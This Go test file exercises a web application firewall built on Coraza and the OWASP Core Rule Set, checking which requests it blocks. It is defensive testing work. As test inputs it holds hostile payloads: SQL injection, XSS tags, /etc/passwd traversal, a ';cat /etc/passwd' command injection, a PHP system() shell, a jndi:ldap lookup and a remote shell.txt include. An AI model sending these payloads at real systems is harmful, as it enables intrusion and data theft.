package waf

import (
	"net/http"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"
)

// chromeHeaders are the headers Chrome sends for a top-level navigation.
func chromeHeaders() http.Header {
	return http.Header{
		"User-Agent":                {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"},
		"Accept":                    {"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"},
		"Accept-Language":           {"en-US,en;q=0.9,de;q=0.8"},
		"Accept-Encoding":           {"gzip, deflate, br, zstd"},
		"Sec-Ch-Ua":                 {`"Google Chrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"`},
		"Sec-Ch-Ua-Mobile":          {"?0"},
		"Sec-Ch-Ua-Platform":        {`"Windows"`},
		"Sec-Fetch-Dest":            {"document"},
		"Sec-Fetch-Mode":            {"navigate"},
		"Sec-Fetch-Site":            {"none"},
		"Sec-Fetch-User":            {"?1"},
		"Upgrade-Insecure-Requests": {"1"},
		"Cookie":                    {"_ga=GA1.1.123456789.1700000000; theme=dark"},
	}
}

// get builds a browser GET of target ("/path?query").
func get(target string) *Input {
	p, q, _ := strings.Cut(target, "?")
	return &Input{ClientAddr: netip.MustParseAddr("203.0.113.7"), Method: "GET", Host: "shop.example.com",
		Path: p, Query: q, Proto: "HTTP/1.1", Header: chromeHeaders()}
}

// post builds a browser POST of an urlencoded form.
func post(target, contentType, body string) *Input {
	in := get(target)
	in.Method = "POST"
	in.Header.Set("Content-Type", contentType)
	in.Header.Set("Content-Length", itoa(len(body)))
	in.Header.Set("Origin", "https://shop.example.com")
	in.Body = []byte(body)
	return in
}

func itoa(n int) string {
	var b [20]byte
	i := len(b)
	for {
		i--
		b[i] = byte('0' + n%10)
		n /= 10
		if n == 0 {
			break
		}
	}
	return string(b[i:])
}

var testReg = NewRegistry()

func firewall(t testing.TB, pl int) *Firewall {
	t.Helper()
	fw, err := testReg.Firewall(pl)
	if err != nil {
		t.Fatal(err)
	}
	return fw
}

func ids(r Result) []int {
	var out []int
	for _, m := range r.Matches {
		out = append(out, m.ID)
	}
	return out
}

func TestAttacksBlockedAtPL1(t *testing.T) {
	fw := firewall(t, 1)
	for _, c := range []struct {
		target, class string
	}{
		{"/products?id=1%27%20OR%20%271%27%3D%271", ClassSQLi},
		{"/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", ClassXSS},
		{"/index.php?page=../../../../etc/passwd", ClassLFI},
		{"/?cmd=%3Bcat%20/etc/passwd", ClassRCE},
		{"/.env", ClassLFI},
		{"/.git/config", ClassLFI},
	} {
		res := fw.Evaluate(get(c.target), &Options{Paranoia: 1, Threshold: 5})
		t.Logf("%s: score %d class %s matches %+v", c.target, res.Score, res.Class, res.Matches)
		if !res.Blocked || res.Class != c.class {
			t.Errorf("%s: blocked %v class %q (score %d, rules %v), want blocked, class %q", c.target, res.Blocked, res.Class, res.Score, ids(res), c.class)
		}
	}
}

func TestOrdinaryRequestsPass(t *testing.T) {
	fw := firewall(t, 1)
	for name, in := range map[string]*Input{
		"browser GET /": get("/"),
		"search":        get("/search?q=red+shoes"),
		"form POST":     post("/contact", "application/x-www-form-urlencoded", "name=O%27Brien&city=K%C3%B6ln"),
	} {
		res := fw.Evaluate(in, &Options{Paranoia: 1, Threshold: 5})
		if res.Blocked || res.Score != 0 {
			t.Errorf("%s: blocked %v score %d matches %+v", name, res.Blocked, res.Score, res.Matches)
		}
		// CRS itself, whatever the prefilter says.
		var crs Result
		fw.evaluateCRS(in, &Options{}, &crs)
		if crs.Blocked || crs.Score != 0 || crs.Skipped {
			t.Errorf("%s: CRS: %+v", name, crs)
		}
	}
}

func TestConcurrentEvaluate(t *testing.T) {
	fw := firewall(t, 1)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 50; i++ {
				a := fw.Evaluate(get("/products?id=1%27%20OR%20%271%27%3D%271"), &Options{})
				b := fw.Evaluate(get("/search?q=red+shoes"), &Options{})
				if !a.Blocked || b.Blocked {
					t.Errorf("concurrent: attack blocked %v, clean blocked %v", a.Blocked, b.Blocked)
					return
				}
			}
		}()
	}
	wg.Wait()
}

func TestThresholdLetsOneCriticalThrough(t *testing.T) {
	fw := firewall(t, 1)
	in := get("/products?id=1%27%20OR%20%271%27%3D%271")
	res := fw.Evaluate(in, &Options{Threshold: 10})
	if res.Blocked || res.Score != 5 || len(res.Matches) != 1 || res.Class != ClassSQLi {
		t.Fatalf("threshold 10: blocked %v score %d class %q rules %v, want recorded (score 5, sqli) and not blocked", res.Blocked, res.Score, res.Class, ids(res))
	}
	if res := fw.Evaluate(in, &Options{Threshold: 5}); !res.Blocked {
		t.Fatalf("threshold 5: not blocked (score %d)", res.Score)
	}
	if res := fw.Evaluate(in, &Options{}); !res.Blocked {
		t.Fatalf("default threshold: not blocked (score %d)", res.Score)
	}
}

func TestParanoia2MatchesMore(t *testing.T) {
	for _, target := range []string{"/?q=select+name+from+users", "/?u=http://example.com/x.txt", "/?v=%3Cb%3Ehi%3C/b%3E"} {
		r1 := firewall(t, 1).Evaluate(get(target), &Options{})
		r2 := firewall(t, 2).Evaluate(get(target), &Options{})
		if r1.Score != 0 || r2.Score == 0 || !r2.Blocked {
			t.Errorf("%s: PL1 score %d %v, PL2 score %d %v; want PL1 clean and PL2 blocking", target, r1.Score, ids(r1), r2.Score, ids(r2))
		}
		for _, m := range r2.Matches {
			if m.ID/1000 < 911 || m.ID/1000 > 944 || m.Severity == "" || m.Message == "" || m.Class == "" {
				t.Errorf("%s: match %+v lacks an id in CRS's detection files, a severity, a message or a class", target, m)
			}
		}
	}
	if fw, err := testReg.Firewall(0); err == nil || fw != nil {
		t.Error("paranoia 0 compiled")
	}
	if _, err := testReg.Firewall(5); err == nil {
		t.Error("paranoia 5 compiled")
	}
	a, _ := testReg.Firewall(2)
	b, _ := testReg.Firewall(2)
	if a != b || a.Paranoia() != 2 {
		t.Error("a level is compiled more than once")
	}
}

func TestMatchFields(t *testing.T) {
	fw := firewall(t, 1)
	res := fw.Evaluate(get("/products?id=1%27%20OR%20%271%27%3D%271"), &Options{})
	if len(res.Matches) != 1 {
		t.Fatalf("matches %+v", res.Matches)
	}
	m := res.Matches[0]
	want := Match{ID: 942100, Message: "SQL Injection Attack Detected via libinjection", Class: ClassSQLi, Severity: "critical", Variable: "ARGS:id", Data: "1' OR '1'='1"}
	if m != want {
		t.Fatalf("match\n %+v\nwant\n %+v", m, want)
	}
}

func TestDataTruncatedToValidUTF8(t *testing.T) {
	fw := firewall(t, 1)
	long := "%C3%A9%C3%A9%C3%A9' UNION SELECT password FROM users WHERE name = 'admin' AND 1=1 -- " + strings.Repeat("%C3%A9", 40)
	res := fw.Evaluate(get("/?q="+long), &Options{})
	if !res.Blocked {
		t.Fatalf("not blocked: %+v", res)
	}
	for _, m := range res.Matches {
		if len(m.Data) > MaxData || !utf8.ValidString(m.Data) {
			t.Errorf("rule %d: data %q is %d bytes or invalid UTF-8", m.ID, m.Data, len(m.Data))
		}
	}
	for _, c := range []struct {
		in   string
		n    int
		want string
	}{{"abc", 5, "abc"}, {"abcdef", 3, "abc"}, {"aé", 2, "a"}, {"a\xffb", 10, "a\uFFFDb"}, {"", 3, ""}} {
		if got := truncate(c.in, c.n); got != c.want {
			t.Errorf("truncate(%q, %d) = %q, want %q", c.in, c.n, got, c.want)
		}
	}
}

func TestJSONAndXMLBodiesAreParsed(t *testing.T) {
	fw := firewall(t, 1)
	res := fw.Evaluate(post("/api/comments", "application/json", `{"post":7,"comment":{"content":"<script>alert(1)</script>"}}`), &Options{})
	if !res.Blocked || res.Class != ClassXSS || res.Matches[0].Variable != "ARGS:json.comment.content" {
		t.Fatalf("JSON body: %+v", res)
	}
	res = fw.Evaluate(post("/api/order", "application/xml", `<order><id>1' OR '1'='1</id></order>`), &Options{})
	if !res.Blocked || res.Class != ClassSQLi {
		t.Fatalf("XML body: %+v", res)
	}
	// A body the parser refuses is scored (it was not inspected), unless
	// the integration cut it.
	bad := post("/api/comments", "application/json", `{"comment": "abc`)
	if res := fw.Evaluate(bad, &Options{}); !res.Blocked || res.Matches[0].ID != ruleBodyError {
		t.Fatalf("broken JSON: %+v", res)
	}
	bad.BodyTruncated = true
	if res := fw.Evaluate(bad, &Options{}); res.Blocked {
		t.Fatalf("truncated JSON: %+v", res)
	}
}

func TestIgnoreHeaders(t *testing.T) {
	fw := firewall(t, 1)
	in := get("/")
	in.Header.Set("X-Original-Uri", "/?id=1' OR '1'='1")
	in.Header.Set("Referer", "https://shop.example.com/?id=1' OR '1'='1")
	if res := fw.Evaluate(in, &Options{}); !res.Blocked {
		t.Fatalf("attack in Referer not seen: %+v", res)
	}
	in.Header.Del("Referer")
	in.IgnoreHeaders = []string{"X-Original-Uri"}
	if res := fw.Evaluate(in, &Options{}); res.Score != 0 {
		t.Fatalf("ignored header inspected: %+v", res)
	}
}

func TestHostileInputDoesNotPanic(t *testing.T) {
	fw := firewall(t, 1)
	before := recovered.Load()
	for _, in := range []*Input{
		nil,
		{},
		{Method: "\x00", Path: "\xff\xfe", Query: "%%%&&==;;", Proto: "HTTP/9", Header: http.Header{"": {""}, "\x00": {"\xff"}}},
		{Method: "POST", Path: "/", Header: http.Header{"Content-Type": {"multipart/form-data; boundary="}}, Body: []byte("--\r\n\r\n")},
		{Method: "POST", Path: "/", Header: http.Header{"Content-Type": {"application/json"}}, Body: []byte(strings.Repeat("[", 5000))},
		{Method: "POST", Path: "/", Header: http.Header{"Content-Type": {"text/xml"}}, Body: []byte("<!DOCTYPE x [<!ENTITY a \"aaaa\">]><x>&a;&a;</x>")},
		{Method: "POST", Path: "/", Body: make([]byte, MaxBody+10), BodyTruncated: true},
	} {
		fw.Evaluate(in, nil)
	}
	if n := recovered.Load() - before; n != 0 {
		t.Fatalf("%d panics recovered", n)
	}
}

func TestRegistryCompilesOncePerLevel(t *testing.T) {
	r := NewRegistry()
	got := make([]*Firewall, 8)
	var wg sync.WaitGroup
	for i := range got {
		wg.Add(1)
		go func() {
			defer wg.Done()
			fw, err := r.Firewall(1)
			if err != nil {
				t.Error(err)
			}
			got[i] = fw
		}()
	}
	wg.Wait()
	for _, fw := range got {
		if fw == nil || fw != got[0] {
			t.Fatal("concurrent callers got different firewalls")
		}
	}
}

// TestEveryRegexRuns: Coraza's experimental regex prefilter (SecRxPreFilter)
// misses this one; it must stay off.
func TestEveryRegexRuns(t *testing.T) {
	var res Result
	firewall(t, 1).evaluateCRS(get("/get?i=2.2250738585072011e-308"), &Options{}, &res)
	if !slices.Contains(ids(res), 942220) {
		t.Fatalf("942220 did not match: %v", ids(res))
	}
}

func TestTruncatedMultipart(t *testing.T) {
	fw := firewall(t, 1)
	body := "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHello\r\n--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\n" + strings.Repeat("plain text ", 50)
	in := post("/upload", "multipart/form-data; boundary=XyZ", body+"\r\n--XyZ--\r\n")
	if res := fw.Evaluate(in, &Options{}); res.Score != 0 {
		t.Fatalf("whole multipart body: %+v", res)
	}
	in = post("/upload", "multipart/form-data; boundary=XyZ", body)
	in.BodyTruncated = true
	if res := fw.Evaluate(in, &Options{}); res.Score != 0 {
		t.Fatalf("cut multipart body: %+v", res)
	}
	in.BodyTruncated = false
	// Not marked cut, the broken body is a protocol violation.
	if res := fw.Evaluate(in, &Options{}); !res.Blocked || res.Class != ClassProtocol || res.Matches[0].ID != ruleMultipartError {
		t.Fatalf("broken multipart body: %+v", res)
	}
}

func TestMatchesAreBounded(t *testing.T) {
	fw := firewall(t, 4)
	q := "a=" + "%3Cscript%3Ealert(1)%3C%2Fscript%3E" + "&b=1%27%20UNION%20SELECT%20password%20FROM%20users--" +
		"&c=../../../../etc/passwd&d=%3Bcat%20/etc/passwd&e=%3C%3Fphp%20system($_GET[c]);%20%3F%3E" +
		"&f=${jndi:ldap://x/a}&g=java.lang.Runtime.getRuntime().exec(id)&h=http://203.0.113.9/shell.txt%3F" +
		"&i=%3Csvg%20onload%3Dalert(1)%3E&j=1%20AND%20SLEEP(5)"
	res := fw.Evaluate(get("/x.php?"+q), &Options{})
	if len(res.Matches) != MaxMatches {
		t.Fatalf("%d matches listed, want the bound %d (score %d)", len(res.Matches), MaxMatches, res.Score)
	}
	sum := 0
	for _, m := range res.Matches {
		sum += severityPoints[m.Severity]
	}
	if res.Score <= sum {
		t.Errorf("score %d counts only the listed matches (%d)", res.Score, sum)
	}
}

// TestEvaluateRunsPatches: patches run after CRS, also on a request the
// prefilter skips; nil entries are skipped.
func TestEvaluateRunsPatches(t *testing.T) {
	ps, err := testReg.PatchSet([]Patch{{ID: 1, Name: "block-export", Rule: &PatchRule{Path: "/export", Target: "arg:format", Op: "equals", Value: "csv"}}})
	if err != nil {
		t.Fatal(err)
	}
	fw := firewall(t, 1)
	o := &Options{Patches: []*PatchSet{nil, ps}, Now: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)}
	res := fw.Evaluate(get("/export?format=csv"), o)
	if !res.Blocked || res.Patch != "block-export" || res.Score != 0 {
		t.Fatalf("patched request: %+v", res)
	}
	if res := fw.Evaluate(get("/export?format=pdf"), o); res.Blocked || len(res.Matches) != 0 {
		t.Fatalf("unpatched request: %+v", res)
	}
	res = fw.Evaluate(get("/export?format=csv&"+sqliID), o)
	if !res.Blocked || res.Score != 5 || len(res.Matches) != 2 {
		t.Fatalf("patch and CRS: %+v", res)
	}
}

// argList is n empty parameters "a0=&a1=&...".
func argList(n int) string {
	var sb strings.Builder
	for i := 0; i < n; i++ {
		sb.WriteString("a" + itoa(i) + "=&")
	}
	return sb.String()
}

// TestArgumentLimit: a request with more than MaxArgs arguments is
// blocked (920380 at every paranoia level), in the query, a form and a
// JSON body, so an attack placed past Coraza's argument limit is never
// let through; one whose arguments were dropped also carries RuleArgs,
// which no exclusion drops. MaxArgs arguments pass.
func TestArgumentLimit(t *testing.T) {
	o := &Options{Paranoia: 1, Threshold: 5}
	sqli := "id=1%27%20OR%20%271%27%3D%271"
	jsonArgs := func(n int, last string) string {
		var sb strings.Builder
		sb.WriteString("{")
		for i := 0; i < n; i++ {
			sb.WriteString(`"a` + itoa(i) + `":0,`)
		}
		return sb.String() + last + "}"
	}
	for pl := 1; pl <= 4; pl++ {
		fw := firewall(t, pl)
		for name, in := range map[string]*Input{
			"query":     get("/search?" + argList(MaxArgs) + sqli),
			"form":      post("/login", "application/x-www-form-urlencoded", argList(MaxArgs)+sqli),
			"json":      post("/api/login", "application/json", jsonArgs(MaxArgs, `"id":"1' OR '1'='1"`)),
			"harmless":  get("/search?" + argList(MaxArgs+1)),
			"json 1001": post("/api/x", "application/json", jsonArgs(MaxArgs, `"z":0`)),
		} {
			res := fw.Evaluate(in, o)
			if !res.Blocked || !slices.Contains(ids(res), 920380) {
				t.Errorf("PL%d %s: %d arguments: %v (score %d); want blocked with 920380", pl, name, MaxArgs+1, ids(res), res.Score)
			}
		}
	}
	fw := firewall(t, 1)
	if res := fw.Evaluate(get("/search?"+strings.TrimSuffix(argList(MaxArgs), "&")), o); res.Blocked || slices.Contains(ids(res), 920380) {
		t.Errorf("%d arguments: %v; want them let through", MaxArgs, ids(res))
	}
	// Past the limit, arguments are dropped: RuleArgs, even with 920380
	// and every protocol rule excluded.
	ex, err := CompileExclusions(map[string]bool{}, []Exclusion{{RuleIDs: []int{920380}}, {Tags: []string{"attack-protocol"}, Path: "/search"}})
	if err != nil {
		t.Fatal(err)
	}
	res := fw.Evaluate(get("/search?"+argList(MaxArgs+1)+sqli), &Options{Paranoia: 1, Threshold: 5, Exclusions: ex})
	if !res.Blocked || !slices.Contains(ids(res), RuleArgs) || res.Class != ClassProtocol {
		t.Errorf("%d arguments with 920380 excluded: %+v; want blocked with %d", MaxArgs+2, res, RuleArgs)
	}
}

// TestTruncatedBodyForgivesOnlyTheCut: a body the integration cut
// (BodyTruncated) is forgiven a parse error only when the error is the
// cut's (unexpected end of input); an error before the cut still blocks.
func TestTruncatedBodyForgivesOnlyTheCut(t *testing.T) {
	fw := firewall(t, 1)
	o := &Options{Paranoia: 1, Threshold: 5}
	pad := strings.Repeat("A", 130<<10)
	deep := strings.Repeat(`{"a":`, 300) + `"v"` + strings.Repeat(`}`, 300)
	mp := "multipart/form-data; boundary=XyZ"
	part := func(name, value string) string {
		return "--XyZ\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n"
	}
	for _, c := range []struct {
		name, ct, body string
		cut            int // bytes passed (0: MaxBody)
		blocked        bool
	}{
		{"json cut in a string", "application/json", `{"title":"hello","pad":"` + pad + `"}`, 0, false},
		{"json cut in a number", "application/json", `{"ids":[1,2,` + strings.Repeat("1", 140<<10) + `]}`, 0, false},
		{"json cut after a colon", "application/json", `{"title":"` + pad[:MaxBody-16] + `","b":"more"}`, 0, false},
		{"json cut below MaxBody", "application/json", `{"title":"hello","pad":"` + pad + `"}`, 10 << 10, false},
		{"json too deep", "application/json", `{"x":` + deep + `,"pad":"` + pad + `"}`, 0, true},
		{"json with a BOM", "application/json", "\xEF\xBB\xBF{\"title\":\"hello\",\"pad\":\"" + pad + `"}`, 0, true},
		{"json syntax error", "application/json", `{"title":hello,"pad":"` + pad + `"}`, 0, true},
		{"xml cut", "application/xml", `<r><title>hello</title><pad>` + pad + `</pad></r>`, 0, false},
		{"xml cut below MaxBody", "application/xml", `<r><title>hello</title><pad>` + pad + `</pad></r>`, 10 << 10, false},
		{"xml syntax error", "application/xml", `<r><title>hello</titl><pad>` + pad + `</pad></r>`, 0, true},
		{"multipart cut", mp, part("title", "hello") + part("pad", pad) + "--XyZ--\r\n", 0, false},
		{"multipart cut below MaxBody", mp, part("title", "hello") + part("pad", pad) + "--XyZ--\r\n", 10 << 10, false},
		{"multipart bad part header", mp, "--XyZ\r\nGarbage line\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nhello\r\n" + part("pad", pad) + "--XyZ--\r\n", 0, true},
		{"multipart bad part header below MaxBody", mp, "--XyZ\r\nGarbage line\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nhello\r\n" + part("pad", pad) + "--XyZ--\r\n", 10 << 10, true},
	} {
		cut := c.cut
		if cut == 0 {
			cut = MaxBody
		}
		in := post("/api/items", c.ct, c.body[:cut])
		in.Header.Set("Content-Length", itoa(len(c.body)))
		in.BodyTruncated = true
		res := fw.Evaluate(in, o)
		if res.Blocked != c.blocked {
			t.Errorf("%s: %v (score %d); want blocked: %v", c.name, ids(res), res.Score, c.blocked)
		}
	}
}

// TestReportedVariableOfAChain: a chained rule is reported on the input
// its last link confirmed: 920450 (restricted header) on
// Content-Encoding, not on the first header its first link walked.
func TestReportedVariableOfAChain(t *testing.T) {
	fw := firewall(t, 1)
	for i := 0; i < 20; i++ { // headers reach Coraza in map order
		in := post("/login", "application/x-www-form-urlencoded", "a=b")
		in.Header.Set("Content-Encoding", "deflate")
		res := fw.Evaluate(in, &Options{})
		found := false
		for _, m := range res.Matches {
			if m.ID != 920450 {
				continue
			}
			found = true
			if m.Variable != "REQUEST_HEADERS_NAMES:Content-Encoding" || m.Data != "content-encoding" {
				t.Fatalf("920450 reported on %s %q; want REQUEST_HEADERS_NAMES:Content-Encoding", m.Variable, m.Data)
			}
		}
		if !found {
			t.Fatalf("920450 did not match: %v", ids(res))
		}
	}
}
